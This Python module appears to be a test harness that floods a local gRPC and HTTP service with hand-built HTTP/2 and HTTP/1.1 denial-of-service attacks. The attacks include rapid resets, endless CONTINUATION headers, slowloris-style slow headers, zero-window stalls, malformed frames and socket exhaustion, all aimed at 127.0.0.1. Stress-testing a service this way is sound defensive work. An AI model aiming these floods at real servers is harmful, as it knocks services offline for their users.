"""Bad neighbours: what a process can send to the two ports to hurt others. None of it reads what it need not.

An attack is a function of the gRPC port, the HTTP port and a time to end. A library for HTTP/2 would refuse to send
most of this, so frames are put together here.
"""

from __future__ import annotations

import contextlib
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator

Attack = Callable[[int, int, float], int]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
SERVICE = "/conceptwatch.v1.ConceptWatch/"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", size: int | None = None) -> bytes:
    """size: the length that is stated, where it is not that of the payload."""
    stated = len(payload) if size is None else size
    return struct.pack(">I", stated)[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def packed(headers: dict[str, str]) -> bytes:
    """HPACK, each header as a literal that is not indexed."""

    def text(value: str) -> bytes:
        size, coded = len(value), b""
        if size < 127:
            return bytes([size]) + value.encode()
        size -= 127
        while size >= 128:
            coded, size = coded + bytes([size % 128 + 128]), size // 128
        return b"\x7f" + coded + bytes([size]) + value.encode()

    return b"".join(b"\x00" + text(name) + text(value) for name, value in headers.items())


def call(method: str, **more: str) -> bytes:
    """The headers of a gRPC call."""
    own = {":method": "POST", ":scheme": "http", ":path": SERVICE + method, ":authority": "localhost"}
    return packed({**own, "content-type": "application/grpc", "te": "trailers", **more})


@contextlib.contextmanager
def connected(port: int, first: bytes = b"") -> Iterator[socket.socket]:
    with socket.create_connection(("127.0.0.1", port), timeout=1.0) as connection:
        if first:
            connection.sendall(first)
        yield connection


def hello(settings: bytes = b"") -> bytes:
    return PREFACE + frame(SETTINGS, 0, 0, settings)


def drain(connection: socket.socket) -> None:
    """Reads what has arrived, so that only what an attack wants to be unread is."""
    connection.setblocking(False)
    with contextlib.suppress(BlockingIOError):
        while connection.recv(1 << 16):
            pass
    connection.settimeout(1.0)


def again(attempt: Callable[[], Iterator[int]], until: float) -> int:
    """Attempts until then; being thrown out is no failure of the attack. What was sent, in the attack's unit."""
    sent = 0
    while time.monotonic() < until:
        try:
            for number in attempt():
                sent += number
                if time.monotonic() > until:
                    break
        except OSError:
            time.sleep(0.002)
    return sent


def held(port: int, number: int, until: float, say: Callable[[socket.socket, int], None], pause: float) -> int:
    """Keeps this many connections open and says something on each, round by round. Rounds times connections."""
    open_: list[socket.socket] = []
    sent = 0
    while time.monotonic() < until:
        while len(open_) < number and time.monotonic() < until:
            try:
                open_.append(socket.create_connection(("127.0.0.1", port), timeout=0.5))
                say(open_[-1], -1)
            except OSError:
                break
        for at, connection in enumerate(list(open_)):
            try:
                say(connection, at)
                sent += 1
            except OSError:
                connection.close()
                open_.remove(connection)
        time.sleep(pause)
    for connection in open_:
        connection.close()
    return sent


def slow_heads(grpc: int, http: int, until: float) -> int:
    """A byte at a time: the beginning of HTTP/2, and the head of a request."""

    def say(connection: socket.socket, at: int) -> None:
        connection.sendall(b"GET / HTTP/1.1\r\nX: " if at < 0 else b"a")

    def say_preface(connection: socket.socket, at: int) -> None:
        connection.sendall(PREFACE[:6] if at < 0 else b"*")

    half = time.monotonic() + (until - time.monotonic()) / 2
    return held(http, 300, half, say, 0.2) + held(grpc, 300, until, say_preface, 0.2)


def half_requests(grpc: int, http: int, until: float) -> int:
    """Calls whose message of 4 MiB stops in the middle, and bodies that stop after a byte."""

    def say(connection: socket.socket, at: int) -> None:
        if at < 0:
            connection.sendall(hello() + frame(HEADERS, END_HEADERS, 1, call("Ingest")))
            connection.sendall(frame(DATA, 0, 1, b"\x00" + struct.pack(">I", 4 << 20) + bytes(11)))
        # As much as the window takes; never the end.
        connection.sendall(frame(DATA, 0, 1, bytes(8192)))
        drain(connection)

    return held(grpc, 64, until, say, 0.3)


def rapid_resets(grpc: int, http: int, until: float) -> int:
    """Calls that are reset at once."""
    head = call("GetScores")

    def attempt() -> Iterator[int]:
        with connected(grpc, hello()) as connection:
            for first in range(1, 1 << 20, 200):
                streams = range(first, first + 200, 2)
                connection.sendall(
                    b"".join(
                        frame(HEADERS, END_HEADERS, stream, head) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                        for stream in streams
                    )
                )
                yield len(streams)
                drain(connection)

    return again(attempt, until)


def huge_heads(grpc: int, http: int, until: float) -> int:
    """A mebibyte of headers on both ports."""

    def attempt() -> Iterator[int]:
        block = call("GetScores", **{f"x-{n}": "a" * 4000 for n in range(256)})
        with connected(grpc, hello()) as connection:
            parts = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
            connection.sendall(frame(HEADERS, 0, 1, parts[0]))
            for number, part in enumerate(parts[1:], 2):
                connection.sendall(frame(CONTINUATION, END_HEADERS if number == len(parts) else 0, 1, part))
            yield 1
            drain(connection)
        with connected(http, b"GET / HTTP/1.1\r\n") as connection:
            yield 1
            for number in range(256):
                connection.sendall(f"X-{number}: {'a' * 4000}\r\n".encode())

    return again(attempt, until)


def continuations(grpc: int, http: int, until: float) -> int:
    """Headers that never end."""
    part = frame(CONTINUATION, 0, 1, packed({"x": "y"})) * 200

    def attempt() -> Iterator[int]:
        with connected(grpc, hello() + frame(HEADERS, 0, 1, call("GetScores"))) as connection:
            while True:
                connection.sendall(part)
                yield 200

    return again(attempt, until)


def settings_and_pings(grpc: int, http: int, until: float) -> int:
    """Frames that have to be answered, by a peer that does not read the answers."""
    part = (frame(SETTINGS, 0, 0) + frame(PING, 0, 0, bytes(8))) * 100

    def attempt() -> Iterator[int]:
        with connected(grpc, hello()) as connection:
            while True:
                connection.sendall(part)
                yield 200

    return again(attempt, until)


def zero_windows(grpc: int, http: int, until: float) -> int:
    """Requests whose answers may not be sent: no window on HTTP/2, nobody who reads on HTTP/1."""

    def say(connection: socket.socket, at: int) -> None:
        if at < 0:
            connection.sendall(hello(struct.pack(">HI", 4, 0)))
            body = frame(DATA, END_STREAM, 1, bytes(5))
            for stream in range(1, 101, 2):
                connection.sendall(frame(HEADERS, END_HEADERS, stream, call("ListRuns")))
                connection.sendall(body[:5] + struct.pack(">I", stream) + body[9:])
        drain(connection)

    def unread(connection: socket.socket, at: int) -> None:
        if at < 0:
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1024)
        connection.sendall(b"GET /assets/main.js HTTP/1.1\r\nHost: localhost\r\n\r\n" * 4)

    half = time.monotonic() + (until - time.monotonic()) / 2
    return held(grpc, 64, half, say, 0.2) + held(http, 128, until, unread, 0.2)


def pipelined(grpc: int, http: int, until: float) -> int:
    """Requests after requests on one connection, whose answers are read late."""
    part = b"GET /api/v1/runs HTTP/1.1\r\nHost: localhost\r\n\r\n" * 100

    def attempt() -> Iterator[int]:
        with connected(http) as connection:
            while True:
                connection.sendall(part)
                yield 100
                drain(connection)

    return again(attempt, until)


def bad_frames(grpc: int, http: int, until: float) -> int:
    """Frames that no standard allows, and bytes that are none."""
    choose = random.Random(0)
    frames = [
        frame(DATA, 0, 0, b"x"),
        frame(HEADERS, END_HEADERS, 2, call("GetScores")),
        frame(HEADERS, END_HEADERS, 1, b"\xff" * 40),
        frame(SETTINGS, 0, 0, b"xyz"),
        frame(PING, 0, 0, b"short"),
        frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 3,
        frame(WINDOW_UPDATE, 0, 0, bytes(4)),
        frame(RST_STREAM, 0, 7, bytes(4)),
        frame(CONTINUATION, END_HEADERS, 1, b""),
        frame(DATA, 8, 1, b"\xff", size=1),
        frame(HEADERS, END_HEADERS, 1, b"", size=(1 << 24) - 1),
        frame(200, 255, 1 << 30, b"unknown"),
    ]

    def attempt() -> Iterator[int]:
        first = choose.choice([hello(), b"", PREFACE])
        bad = choose.choice([*frames, choose.randbytes(choose.randrange(1, 4096))])
        for port in (grpc, http):
            with connected(port, first + bad) as connection:
                yield 1
                with contextlib.suppress(OSError):
                    connection.shutdown(socket.SHUT_WR)
                drain(connection)

    return again(attempt, until)


def endless_bodies(grpc: int, http: int, until: float) -> int:
    """Messages that say that they have 4 GiB, and bodies in parts without end. In MiB."""
    part = frame(DATA, 0, 1, bytes(16_384))

    def attempt() -> Iterator[int]:
        with connected(grpc, hello() + frame(HEADERS, END_HEADERS, 1, call("Ingest"))) as connection:
            connection.sendall(frame(DATA, 0, 1, b"\x00\xff\xff\xff\xff"))
            with contextlib.suppress(OSError):
                for _ in range(4):
                    connection.sendall(part * 64)
                    yield 1
        head = b"POST /api/v1/runs HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n"
        with connected(http, head) as connection:
            for _ in range(4):
                connection.sendall((b"10000\r\n" + bytes(1 << 16) + b"\r\n") * 16)
                yield 1

    return again(attempt, until)


def silent(grpc: int, http: int, until: float) -> int:
    """2,000 sockets that say nothing, opened again as they are closed. The number of all that were opened."""
    open_: list[socket.socket] = []
    opened = 0
    while time.monotonic() < until:
        while len(open_) < 2000 and time.monotonic() < until:
            try:
                open_.append(socket.create_connection(("127.0.0.1", (grpc, http)[opened % 2]), timeout=0.2))
                opened += 1
            except OSError:
                time.sleep(0.01)
        for connection in list(open_):
            connection.setblocking(False)
            try:
                if not connection.recv(1):
                    raise ConnectionResetError
            except BlockingIOError:
                continue
            except OSError:
                connection.close()
                open_.remove(connection)
        time.sleep(0.1)
    for connection in open_:
        connection.close()
    return opened


ATTACKS: dict[str, Attack] = {
    "slow heads": slow_heads,
    "half requests": half_requests,
    "rapid resets": rapid_resets,
    "huge headers": huge_heads,
    "CONTINUATION without end": continuations,
    "SETTINGS and PING": settings_and_pings,
    "zero windows": zero_windows,
    "pipelined requests": pipelined,
    "bad frames": bad_frames,
    "endless bodies": endless_bodies,
    "silent sockets": silent,
}
# Attacks that keep a number of sockets.
HOLDING = {"slow heads", "half requests", "zero windows", "silent sockets"}
